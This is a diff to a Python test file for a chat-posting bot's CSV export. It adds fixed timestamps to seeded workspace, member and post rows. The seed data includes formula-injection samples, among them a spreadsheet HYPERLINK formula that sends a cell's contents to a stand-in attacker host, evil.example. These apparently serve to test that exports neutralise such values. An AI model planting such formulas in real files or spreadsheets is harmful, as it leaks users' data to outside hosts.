@@ -7,6 +7,7 @@ import csv
 import io
 import json
 import subprocess
+from datetime import UTC, datetime
 
 import pytest
 from sqlalchemy.ext.asyncio import AsyncSession
@@ -15,6 +16,9 @@ from bot import db
 from models import Member, Platform, Post, PostState, Workspace
 from tests.bot.test_cli import RELAIS, _environment, relais
 from tests.conftest import run_in_thread
+
+# Rows these tests write themselves are stamped with a fixed time (there is no wall-clock default).
+CREATED = datetime(2026, 11, 25, 8, 0, tzinfo=UTC)
 
 NAMES = (
     '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
@@ -32,16 +36,24 @@ NAMES = (
 async def _seed(url: str) -> None:
     engine = db.create_engine(url)
     async with AsyncSession(engine) as session:
-        workspace = Workspace(platform=Platform.SLACK, external_id="T1", name="Acme")
+        workspace = Workspace(
+            platform=Platform.SLACK, external_id="T1", name="Acme", created_at=CREATED, updated_at=CREATED
+        )
         session.add(workspace)
         await session.flush()
         session.add_all(
-            Member(workspace_id=workspace.id, external_id=f"U{index}", display_name=name)
+            Member(
+                workspace_id=workspace.id,
+                external_id=f"U{index}",
+                display_name=name,
+                created_at=CREATED,
+                updated_at=CREATED,
+            )
             for index, name in enumerate(NAMES)
         )
         session.add(
             Post(workspace_id=workspace.id, url="https://example.com/a", title="=1+1", state=PostState.DRAFT,
-                 channels=["-C1"], networks=["linkedin"])
+                 channels=["-C1"], networks=["linkedin"], created_at=CREATED, updated_at=CREATED)
         )  # fmt: skip
         await session.commit()
     await engine.dispose()
